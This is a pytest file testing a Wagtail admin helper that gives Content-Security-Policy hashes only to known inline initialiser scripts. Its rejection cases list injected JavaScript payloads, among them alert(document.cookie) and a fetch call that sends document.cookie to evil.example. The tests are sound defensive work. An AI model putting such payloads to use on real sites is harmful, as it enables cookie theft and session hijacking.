"""Only Wagtail's own inline initialisers, with data-only arguments, get a hash in the admin's
Content-Security-Policy; anything else inline stays blocked."""

import pytest

from home.admin_scripts import allowed_hashes, is_known_initialiser, script_hash


@pytest.mark.parametrize(
    "script",
    [
        'new PageChooser("id_method_links-0-method", {"modelNames": ["practices.methodpage"], '
        '"canChooseRoot": false, "userPerms": null, "modalUrl": "/admin/choose-page/"});',
        'initDateChooser("id_start_date", {"dayOfWeekStart": 1, "format": "Y-m-d"});',
        """
        (function() {
            var panel = new InlinePanel(JSON.parse("{\\u0022type\\u0022: 1}"));
        })();
        """,
        """
        if (typeof window.chooserUrls === "undefined") {
            window.chooserUrls = {
                imageChooser: "/admin/images/chooser/",
                pageChooser: "/admin/choose-page/",
            }
        }
        """,
    ],
)
def test_wagtails_initialisers_are_recognised(script):
    assert is_known_initialiser(script)


@pytest.mark.parametrize(
    "script",
    [
        "alert(document.cookie)",
        'new PageChooser("x", {}); fetch("//evil.example/" + document.cookie); f({});',
        'new PageChooser("x", {"a": alert(1)});',
        'initDateChooser("x", {}) || alert(1);',
        '(function() { var panel = new InlinePanel(JSON.parse("{}")); alert(1); })();',
        'if (typeof window.chooserUrls === "undefined") { window.chooserUrls = '
        '{ a: "javascript:alert(1)", } }',
    ],
)
def test_anything_else_is_not(script):
    assert not is_known_initialiser(script)


def test_a_page_gets_the_hashes_of_its_initialisers_only():
    known = 'initDateChooser("id_x", {"format": "Y-m-d"});'
    html = f"<p>x</p><script>{known}</script><script>alert(1)</script><script src='/a.js'></script>"
    assert allowed_hashes(html) == [script_hash(known)]
    assert script_hash("a").startswith("'sha256-") and script_hash("a").endswith("='")
